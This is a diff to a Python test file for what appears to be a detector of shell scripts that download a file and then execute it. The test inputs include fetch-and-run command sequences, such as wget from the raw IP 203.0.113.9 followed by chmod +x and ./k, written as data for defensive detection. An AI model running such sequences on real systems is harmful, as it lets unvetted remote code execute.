@@ -68,10 +68,10 @@ def test_what_is_fetched_and_run_later(tmp_path: Path) -> None:
     assert found(tmp_path, "id\nwget http://203.0.113.9/k\nchmod +x k\nls\n./k\n") == [
         (2, "download_and_run", "203.0.113.9", True)
     ]
-    assert found(tmp_path, "wget https://example.org/k.tgz\ntar xf k.tgz\ncd k\nmake\n./k\n") == [
-        (1, "download_and_run", "example.org", False)
+    assert found(tmp_path, "wget https://example.org/k.tgz\ntar xf k.tgz\ncd k\nmake\n./k\n") == []
+    assert found(tmp_path, "wget http://203.0.113.9/k.tgz\ntar xf k.tgz\ncd k\n./k\n") == [
+        (1, "download_and_run", "203.0.113.9", True)
     ]
-    assert found(tmp_path, "wget https://example.org/k.tgz\ntar xf k.tgz\nls k\n") == []
     assert found(tmp_path, "wget http://203.0.113.9/k\n" + "ls\n" * 20 + "./k\n") == []
 
 
